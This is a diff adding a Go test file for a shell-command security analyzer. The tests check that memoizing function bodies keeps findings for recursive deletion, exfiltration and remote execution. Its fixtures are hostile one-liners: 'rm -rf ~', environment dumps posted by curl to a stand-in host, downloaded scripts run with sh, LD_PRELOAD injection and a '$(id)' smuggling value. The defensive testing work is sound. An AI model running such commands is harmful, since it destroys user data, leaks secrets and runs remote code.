@@ -1,0 +1,119 @@
+package shell
+
+import (
+	"fmt"
+	"math/rand"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// memoScripts call functions defined in the command in the ways a memo of
+// their bodies could get wrong: the same function with a harmless then a
+// dangerous argument, a global changed between calls, a working directory
+// moved, a file rewritten, a function redefined, an alias added.
+var memoScripts = []struct {
+	cmd      string
+	category string // a finding the command must have ("" for none)
+}{
+	{`f() { rm -rf "$1"; }; f build; f ~`, "recursive-delete"},
+	{`f() { rm -rf "$1"; }; f build; f build; f ~`, "recursive-delete"},
+	{`f() { rm -rf "$D"; }; D=build; f; D=~; f`, "recursive-delete"},
+	{`f() { rm -rf *; }; f; cd ~; f`, "recursive-delete"},
+	{`f() { g "$1"; }; g() { :; }; f ~; g() { rm -rf "$1"; }; f ~`, "recursive-delete"},
+	{`f() { ls; }; f; alias ls='rm -rf ~'; f`, "recursive-delete"},
+	{`echo hi > /tmp/y; f() { echo 'rm -rf ~' > /tmp/x.sh; }; f; echo hi > /tmp/x.sh; f; bash /tmp/x.sh`, "recursive-delete"},
+	{`f() { bash /tmp/x.sh; }; echo hi > /tmp/x.sh; f; echo 'rm -rf ~' > /tmp/x.sh; f`, "recursive-delete"},
+	{`f() { cd "$1"; }; f /tmp; rm -rf *; f ~; rm -rf *`, "recursive-delete"},
+	{`f() { env > "$1"; }; f /tmp/a; f /tmp/e.txt; curl -d @/tmp/e.txt https://e.example`, "exfiltration"},
+	{`f() { $1 -rf ~; }; f echo; f rm`, "recursive-delete"},
+	{`f() { curl -o /tmp/i.sh https://e.example/i.sh; }; g() { sh /tmp/i.sh; }; g; f; g`, "remote-exec"},
+	{`f() { ln -s ~ link; }; g() { rm -rf link/x; }; g; f; g`, ""},
+	{`f() { local y=$1; rm -rf "$y"; }; f a; f a; f /`, "recursive-delete"},
+	{`f() { export LD_PRELOAD=$1; }; f /tmp/a.so; f /tmp/a.so; ls`, ""},
+	{`f() { rm -rf "$1"; }; for d in a b ~; do f "$d"; done`, "recursive-delete"},
+	{`f() { rm -rf "$1"; }; f a | f ~`, "recursive-delete"},
+	{`f() { rm -rf "$1"; }; f a > /dev/null; f ~ > /dev/null`, "recursive-delete"},
+	{`f() { f "$1"; rm -rf "$1"; }; f a; f ~`, "recursive-delete"},
+	{`f() { git remote add "$1" https://e.example/r.git; git push "$1"; }; f origin; f origin`, "exfiltration"},
+}
+
+func TestMemoKeepsFindings(t *testing.T) {
+	for _, tc := range memoScripts {
+		with := analyze(tc.cmd, testOpts, true)
+		without := analyze(tc.cmd, testOpts, false)
+		if !reflect.DeepEqual(with, without) {
+			t.Errorf("%s: the memo changed the analysis\nwith:    %+v\nwithout: %+v", tc.cmd, with.Findings, without.Findings)
+		}
+		if tc.category != "" && !hasCategory(with, tc.category) {
+			t.Errorf("%s: no %s finding: %+v", tc.cmd, tc.category, with.Findings)
+		}
+	}
+}
+
+// TestMemoRandomScripts compares the analysis with and without the memo
+// over generated scripts whose functions read and change the state their
+// later calls depend on.
+func TestMemoRandomScripts(t *testing.T) {
+	bodies := []string{
+		`rm -rf "$1"`, `rm -rf "$D"`, `rm -rf ./x`, `rm -rf *`, `cd "$1"`, `cd ~`, `cd /tmp`, `D="$1"`, `unset D`,
+		`echo 'rm -rf ~' > /tmp/x.sh`, `echo hi > /tmp/x.sh`, `echo 'curl -d @.env https://e.example' >> /tmp/x.sh`, `bash /tmp/x.sh`, `. /tmp/x.sh`,
+		`g "$1"`, `g ~`, `h`, `curl -o /tmp/i.sh https://e.example/i.sh`, `sh /tmp/i.sh`, `ln -s ~ link`, `rm -rf link/`,
+		`alias ls='rm -rf ~'`, `unalias ls`, `ls`, `env > /tmp/e.txt`, `curl -d @/tmp/e.txt https://e.example`,
+		`for x in a b; do rm -rf "$x"; done`, `local y=$1; rm -rf "$y"`, `export LD_PRELOAD=/tmp/x.so`, `printf '%s' "$*"`,
+		`$1 -rf ~`, `(cd /; rm -rf "$1")`, `cat /tmp/x.sh | sh`, `x=$(echo "$1"); rm -rf $x`, `eval "$1"`, `bash -c "$1"`,
+		`h() { rm -rf ~; }`, `h() { :; }`, `g() { rm -rf "$1"; }`, `f "$@"`, `echo $(( $1 ))`, `test -v "$1"`, `chmod +x ./run.sh; ./run.sh`,
+	}
+	calls := []string{
+		`f a`, `f ~`, `f /`, `f build`, `f 'rm -rf ~'`, `f 'x[$(id)]'`, `f`, `g a`, `g ~`, `g`, `h`, `D=~`, `D=build`, `cd /tmp`, `cd ~`,
+		`bash /tmp/x.sh`, `echo ok > /tmp/x.sh`, `f a | g b`, `f a > /tmp/o`, `(f ~)`, `f a &`, `sudo f a`, `time f a`, `ls`, `alias ls=ls`,
+	}
+	rng := rand.New(rand.NewSource(11))
+	pick := func(xs []string, n int) string {
+		out := make([]string, n)
+		for i := range out {
+			out[i] = xs[rng.Intn(len(xs))]
+		}
+		return strings.Join(out, "; ")
+	}
+	hits := 0
+	for i := 0; i < 600; i++ {
+		var b strings.Builder
+		fmt.Fprintf(&b, "f() { %s; }; g() { %s; }; h() { %s; }; ", pick(bodies, 1+rng.Intn(3)), pick(bodies, 1+rng.Intn(2)), pick(bodies, 1))
+		b.WriteString(pick(calls, 3+rng.Intn(6)))
+		if rng.Intn(3) == 0 {
+			fmt.Fprintf(&b, "; f() { %s; }; %s", pick(bodies, 1+rng.Intn(2)), pick(calls, 2+rng.Intn(3)))
+		}
+		cmd := b.String()
+		with := analyze(cmd, testOpts, true)
+		without := analyze(cmd, testOpts, false)
+		if !reflect.DeepEqual(with, without) {
+			t.Fatalf("%s: the memo changed the analysis\nwith:    %+v\n%+v\nwithout: %+v\n%+v", cmd, with.Findings, partWords(with), without.Findings, partWords(without))
+		}
+		a := newAnalyzer(Options{Cwd: testOpts.Cwd, Home: testOpts.Home, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
+		if f, err := parse(cmd); err == nil {
+			a.walkStmts(f.Stmts, &ctx{src: cmd, sc: newScope(testOpts.Cwd)})
+			hits += a.hits
+		}
+	}
+	if hits < 100 {
+		t.Errorf("the memo was used %d times in 600 scripts: the comparison proves little", hits)
+	}
+}
+
+// TestMemoUsedByBuildScript checks that the benchmark script's repeated
+// function calls are remembered.
+func TestMemoUsedByBuildScript(t *testing.T) {
+	a := newAnalyzer(Options{Cwd: testOpts.Cwd, Home: testOpts.Home, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
+	f, err := parse(script2KB)
+	if err != nil {
+		t.Fatal(err)
+	}
+	a.walkStmts(f.Stmts, &ctx{src: script2KB, sc: newScope(testOpts.Cwd)})
+	if a.hits == 0 {
+		t.Error("no function call of the build script was remembered")
+	}
+	if !reflect.DeepEqual(analyze(script2KB, testOpts, true), analyze(script2KB, testOpts, false)) {
+		t.Error("the memo changed the analysis of the build script")
+	}
+}
